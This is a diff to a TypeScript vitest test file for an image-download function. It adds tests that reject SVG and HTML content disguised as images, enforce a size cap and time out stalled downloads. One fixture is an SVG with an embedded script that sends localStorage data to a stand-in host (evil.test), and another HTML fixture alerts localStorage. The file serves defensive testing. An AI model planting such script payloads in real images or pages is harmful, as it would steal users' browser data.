@@ -2,10 +2,11 @@
 import { createServer } from 'node:http';
 import type { Server } from 'node:http';
 import { afterAll, beforeAll, describe, expect, it } from 'vitest';
-import { downloadImage } from './download-result-image';
+import { downloadImage, NotAnImageError } from './download-result-image';
 import { NetworkError } from './http';
 
 const PNG = Buffer.from([0x89, 0x50, 0x4e, 0x47, 13, 10, 26, 10, 1, 2, 3]);
+const SVG = Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>fetch("//evil.test/?"+localStorage.key)</script></svg>');
 let server: Server;
 let base = '';
 
@@ -18,6 +19,22 @@ beforeAll(async () => {
       return;
     }
     if (req.url === '/stall.png') return; // never answers
+    if (req.url === '/claims-png.svg') {
+      // An SVG with a script, served as if it were a PNG.
+      res.writeHead(200, { 'content-type': 'image/png' });
+      res.end(SVG);
+      return;
+    }
+    if (req.url === '/page.html') {
+      res.writeHead(200, { 'content-type': 'text/html' });
+      res.end('<!doctype html><script>alert(localStorage)</script>');
+      return;
+    }
+    if (req.url === '/huge.png') {
+      res.writeHead(200, { 'content-type': 'image/png' });
+      res.end(Buffer.concat([PNG, Buffer.alloc(3 * 1024 * 1024)]));
+      return;
+    }
     res.writeHead(200, { 'content-type': 'application/octet-stream' });
     res.end(PNG);
   });
@@ -57,5 +74,32 @@ describe('downloadImage', () => {
   it('still reports a refused or unreachable link as link-only when nobody cancelled', async () => {
     const got = await downloadImage({ type: 'url', url: 'http://127.0.0.1:9/none.png' });
     expect(got).toMatchObject({ ok: false, sourceUrl: 'http://127.0.0.1:9/none.png' });
+  });
+
+  it('keeps nothing but PNG, JPEG, WebP, GIF or AVIF, whatever the type claims', async () => {
+    const svg = await downloadImage({ type: 'url', url: `${base}/claims-png.svg` }).catch((e: unknown) => e);
+    expect(svg).toBeInstanceOf(NotAnImageError);
+    expect((svg as Error).message).toMatch(/not an image .*claimed to be image\/png/);
+    expect(await downloadImage({ type: 'url', url: `${base}/page.html` }).catch((e: unknown) => e)).toBeInstanceOf(NotAnImageError);
+    // Bytes and data URLs: the claimed type is ignored both ways.
+    await expect(downloadImage({ type: 'bytes', bytes: new Uint8Array(SVG), mime: 'image/svg+xml' })).rejects.toBeInstanceOf(NotAnImageError);
+    await expect(downloadImage({ type: 'base64', data: SVG.toString('base64'), mime: 'image/png' })).rejects.toBeInstanceOf(NotAnImageError);
+    const html = Buffer.from('<html><script>1</script></html>').toString('base64');
+    await expect(downloadImage({ type: 'base64', data: html, mime: 'text/html' })).rejects.toBeInstanceOf(NotAnImageError);
+    // A real PNG claimed as SVG is kept, as a PNG.
+    const png = await downloadImage({ type: 'bytes', bytes: new Uint8Array(PNG), mime: 'image/svg+xml' });
+    expect(png.ok && png.mime).toBe('image/png');
+    expect(png.ok && png.blob.type).toBe('image/png');
+  });
+
+  it('cuts an image larger than the cap', async () => {
+    const error = await downloadImage({ type: 'url', url: `${base}/huge.png` }, undefined, { maxBytes: 1024 * 1024 }).catch((e: unknown) => e);
+    expect((error as NetworkError).message).toMatch(/larger than 1 MB/);
+    await expect(downloadImage({ type: 'base64', data: 'A'.repeat(2 * 1024 * 1024), mime: 'image/png' }, undefined, { maxBytes: 1024 * 1024 })).rejects.toThrow(/larger than 1 MB/);
+  });
+
+  it('ends a download that never answers at the time limit', async () => {
+    const error = await downloadImage({ type: 'url', url: `${base}/stall.png` }, undefined, { timeoutMs: 100 }).catch((e: unknown) => e);
+    expect((error as NetworkError).message).toMatch(/No complete answer within 0.1 s/);
   });
 });
